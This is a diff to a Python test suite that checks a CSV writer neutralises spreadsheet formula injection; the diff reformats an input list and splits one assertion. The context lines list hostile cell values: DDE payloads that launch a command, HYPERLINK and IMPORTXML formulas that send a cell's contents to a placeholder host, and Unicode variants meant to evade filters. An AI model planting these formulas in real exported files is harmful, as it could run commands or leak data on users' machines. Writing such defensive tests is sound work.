@@ -22,7 +22,10 @@ FORMULAS = [
     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"mark")',
     "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "−1",
 ]
-BEFORE = ["", " ", "\u00a0", "\u3000", "\t", "\r", "\n", "\r\n", "\0", "\x1b", "\u200b", "\u202e", "\ufeff", '"', '""', "“", "' ", " \" \t", "\ud800", "\x85"]
+BEFORE = [
+    "", " ", "\u00a0", "\u3000", "\t", "\r", "\n", "\r\n", "\0", "\x1b", "\u200b", "\u202e", "\ufeff", '"', '""', "“", "' ", " \" \t", "\ud800",
+    "\x85",
+]
 SPLITTERS = ["a;", "a|", "a\t", "a\n", "a\r\n", "a;;", 'a";"', "a; ", "a\n\n ", "a;\t"]
 HOSTILE = [
     *(before + formula for before, formula in product(BEFORE, FORMULAS)), *(before + formula for before, formula in product(SPLITTERS, FORMULAS)),
@@ -53,7 +56,8 @@ def test_no_cell_of_a_students_is_a_formula(text: str, tmp_path: Path) -> None:
     write_sheet(tmp_path / "x.csv", [["name", text], [text, "x"], ["x", text]])
     content = (tmp_path / "x.csv").read_text(encoding="utf-8")
     assert [cell for cell in cells(content) if is_formula(cell)] == []
-    assert "\0" not in content and not text.startswith(("\t", "\r", "\n")) or safe_cell(text).startswith("'")
+    assert "\0" not in content
+    assert safe_cell(text).startswith("'") or not text.startswith(("\t", "\r", "\n"))
     with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
         rows = list(csv.reader(file))
     assert [len(row) for row in rows] == [2, 2, 2]
